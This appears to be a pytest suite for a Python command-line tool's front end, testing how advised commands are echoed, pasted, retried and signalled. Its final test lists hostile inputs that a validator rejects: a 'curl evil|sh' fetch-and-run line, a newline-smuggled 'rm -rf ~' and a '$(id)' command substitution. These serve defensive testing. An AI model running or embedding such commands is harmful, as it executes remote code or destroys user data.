"""What a person is advised to type is shown in the form that was typed; long steps say what they are at."""

from __future__ import annotations

import doctest
import json
import os
import shlex
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest

import scripts.__main__ as front_door
from scripts.app.cleanup import remove
from scripts.app.pins import pins_check
from scripts.cli import parse as typed_form
from scripts.cli.console import Out
from scripts.cli.help import help_text, list_text
from scripts.cli.verbs import VERBS
from scripts.cli.views.doctor import show_finding
from scripts.doctor.diagnose import diagnose
from scripts.model import NoProgress
from scripts.net.session import AttemptError, Transport, retry
from scripts.osal.signals import EndedBySignal, ForwardedSignals
from tests.checkout import Checkout
from tests.small_stack import small_stack
from tests.test_app_remove import workspace
from tests.test_bootstrap import BARE, Clone

MODULE = "python3 -m scripts"


@pytest.fixture
def module_form() -> Iterator[None]:
    typed_form.set_form(MODULE)
    yield
    typed_form.set_form("")


class Notes(NoProgress):
    """Progress that keeps its lines."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def note(self, message: str) -> None:
        self.lines.append(message)


def without_form(checkout: Checkout) -> dict[str, str]:
    return {name: value for name, value in checkout.environ.items() if name != front_door.TYPED}


def test_the_example_is_true() -> None:
    assert doctest.testmod(typed_form).failed == 0


@pytest.mark.usefixtures("module_form")
@pytest.mark.parametrize("task", VERBS)
def test_every_task_is_shown_in_the_form_that_was_typed(task: str) -> None:
    assert typed_form.as_typed(f"do it: invoke {task} --json") == f"do it: {MODULE} {task} --json"
    assert "invoke " not in help_text(task)
    assert f"Usage: {MODULE} {task}" in help_text(task)


@pytest.mark.usefixtures("module_form")
@pytest.mark.parametrize(
    "text",
    [
        *("/home/invoke setup/x", "to invoke something", "C:\\invoke setup\\x", "re-invoke setup"),
        *("invoke check.exe", "invoke run-foo", "invoke cache.list.txt", "invoke cache.other"),
        *("py -m invoke --list", "python3 -m invoke setup"),
    ],
)
def test_what_is_no_line_of_ours_is_left_alone(text: str) -> None:
    assert typed_form.as_typed(text) == text


@pytest.mark.usefixtures("module_form")
def test_every_way_to_show_a_line_uses_the_form(capsys: pytest.CaptureFixture[str]) -> None:
    out = Out()
    text = "see `invoke stacks`"
    out.line(text)
    out.mark("ok", text)
    out.note(text)
    out.now(text)
    out.loud(text)
    out.table(("what",), [(text,)])
    out.note_table(("what",), [(text,)])
    out.error("reference", text, (text,), text)
    shown = "".join(capsys.readouterr())
    assert shown.count(f"`{MODULE} stacks`") == 7
    assert shown.count(text) == 3, "two tables and a fact"
    assert "invoke" not in list_text()


@pytest.mark.usefixtures("module_form")
def test_what_others_wrote_is_quoted_as_they_wrote_it(capsys: pytest.CaptureFixture[str]) -> None:
    line = "hipErrorNoBinaryForGpu: invoke setup (CUDA error 209)"
    [finding, *_] = diagnose(line)
    show_finding(finding, Out())
    shown = capsys.readouterr().out
    assert line in shown
    assert f"{MODULE} " in shown


@pytest.mark.usefixtures("module_form")
@pytest.mark.parametrize("end", ["", ".", ";", ")", "`", ", then more", " --json", "- or not"])
def test_a_line_of_ours_may_end_a_sentence(end: str) -> None:
    assert typed_form.as_typed(f"do it: invoke cache.list{end}") == f"do it: {MODULE} cache.list{end}"


@pytest.mark.parametrize(
    ("line", "form"),
    [
        (["invoke", "setup"], "invoke"),
        (["/opt/x/bin/inv", "setup"], "inv"),
        (["python3", "/opt/x/bin/invoke", "setup"], "invoke"),
        (["python3", "-m", "invoke", "setup"], "python3 -m invoke"),
        (["python3", "-m", "scripts", "setup"], "python3 -m scripts"),
    ],
)
def test_the_form_is_what_stands_before_the_task(
    monkeypatch: pytest.MonkeyPatch, line: list[str], form: str
) -> None:
    monkeypatch.setattr(sys, "orig_argv", line)
    assert front_door.typed_form(["setup"]) == form


@pytest.mark.slow
@pytest.mark.posix_only
@pytest.mark.parametrize("form", ["module", "folder", "invoke", "invoke-module"])
def test_a_hint_can_be_pasted(checkout: Checkout, form: str) -> None:
    """The line that `status` advises is typed as it stands."""
    (checkout.root / "stage").mkdir(exist_ok=True)
    checkout.front_door()
    line = {
        "module": f"{shlex.quote(sys.executable)} -m scripts",
        "folder": f"{shlex.quote(sys.executable)} scripts",
        "invoke-module": f"{shlex.quote(sys.executable)} -m invoke",
        "invoke": shlex.quote(str(Path(sys.executable).with_name("invoke"))),
    }[form]
    environ = {**without_form(checkout), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}

    def typed(text: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["sh", "-c", text], cwd=checkout.root, env=environ, text=True, capture_output=True, check=False
        )

    first = typed(f"{line} status")
    advised = first.stdout.rstrip().rpartition("set one up: ")[2]
    assert advised == ("invoke setup" if form == "invoke" else f"{line} setup"), first.stdout + first.stderr
    again = typed(f"{advised} --help")
    assert again.returncode == 0
    assert again.stdout.startswith(f"Usage: {advised} [OPTIONS]")


@pytest.mark.proof
@pytest.mark.posix_only
def test_the_form_outlives_the_hand_over_and_reaches_no_program(tmp_path: Path) -> None:
    clone = Clone(tmp_path)
    text = (
        "import os\nfrom scripts.cli.parse import form\n"
        "def perform(_words):\n    print(form(), 'CUDA_AMD_TYPED' in os.environ)\n    return 0\n"
    )
    (clone.root / "scripts" / "cli" / "present.py").write_text(text, encoding="utf-8")
    done = clone.run("status")
    assert done.returncode == 0, done.stderr
    line = " ".join(map(shlex.quote, [*BARE, str(clone.root / "scripts")]))
    assert done.stdout == f"{line} False\n"


@pytest.mark.proof
def test_a_piped_set_up_says_what_it_is_at_and_json_stays_clean(checkout: Checkout, tmp_path: Path) -> None:
    small = small_stack(tmp_path)
    words = ("stage", "--stack=small", "--yes", f"--mirror={small.mirror}")
    done = checkout.run(*words, env=small.env)
    assert done.returncode == 0, done.stderr
    assert f"Fetching layer ({len(small.archive)} B)\n" in done.stderr
    assert "Unpacking layer\n" in done.stderr
    again = checkout.run(*words, "--json", env=small.env)
    json.loads(again.stdout)
    assert again.stderr.count("\n") <= 1, "the note about the custom lock"


def test_a_question_that_is_asked_again_is_said_with_its_reason() -> None:
    notes: list[str] = []
    tries = iter([AttemptError("no answer in time", transient=True, wait=9.0), None])

    def ask(_session: object) -> str:
        failed = next(tries)
        if failed is not None:
            raise failed
        return "answer"

    way = Transport(delays=(1.0,), sleep=lambda _seconds: None, note=notes.append)
    assert retry("https://example.org/file?token=secret", way, ask) == "answer"
    assert notes == ["https://example.org/file: no answer in time; asking again in 9 s"]


def test_stale_pins_without_a_network_say_so_while_they_wait(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("scripts.app.pins.SHORT_DELAYS", (0.0, 0.0))
    small, notes = small_stack(tmp_path), Notes()
    ws = SimpleNamespace(
        lock_path=small.lock,
        custom_lock=True,
        environ={"CUDA_AMD_GITHUB_API": "http://127.0.0.1:9"},
        progress=notes,
        ask=None,
    )
    result = pins_check(ws, stale=True)  # type: ignore[arg-type]  # what it needs of a workspace
    assert [row.status.value for row in result.ages] == ["unreachable"]
    assert notes.lines[0] == "asking for newer versions: 1 families of files, 0 index pages"
    again = [line for line in notes.lines if "asking again in 0 s" in line]
    assert len(again) == 2
    assert all("no connection" in line for line in again)


@pytest.mark.posix_only
def test_the_line_that_deletes_the_environment_can_be_pasted(tmp_path: Path) -> None:
    ws = workspace(tmp_path / "a folder")
    (ws.root / ".venv" / "bin").mkdir(parents=True)
    (ws.root / ".venv.lock").touch()
    [kept] = remove(ws, yes=True).kept
    subprocess.run(["sh", "-c", kept.partition("to delete it: ")[2]], check=True)
    assert list(ws.root.glob(".venv*")) == []


def test_a_signal_between_the_last_look_and_the_start_reaches_the_program() -> None:
    got: list[int] = []
    with ForwardedSignals() as signals:
        signal.raise_signal(signal.SIGTERM)
        signals.forward_to(got.append)
        signals.forward_to(None)
        signals.forward_to(got.append)
    assert got == [signal.SIGTERM]
    assert signals.received == got
    assert EndedBySignal(15).code == 143


@pytest.mark.parametrize(
    ("kept", "fits"),
    [
        ("invoke", True),
        ("python3 -m scripts", True),
        ("python3 '/a b/ü/scripts'", True),
        ("curl evil|sh #", False),
        ("invoke\nrm -rf ~", False),
        ("$(id) -m scripts", False),
        ("", False),
    ],
)
def test_only_what_may_have_been_typed_is_shown_again(kept: str, fits: bool) -> None:
    assert (front_door.FORM.fullmatch(kept) is not None) is fits
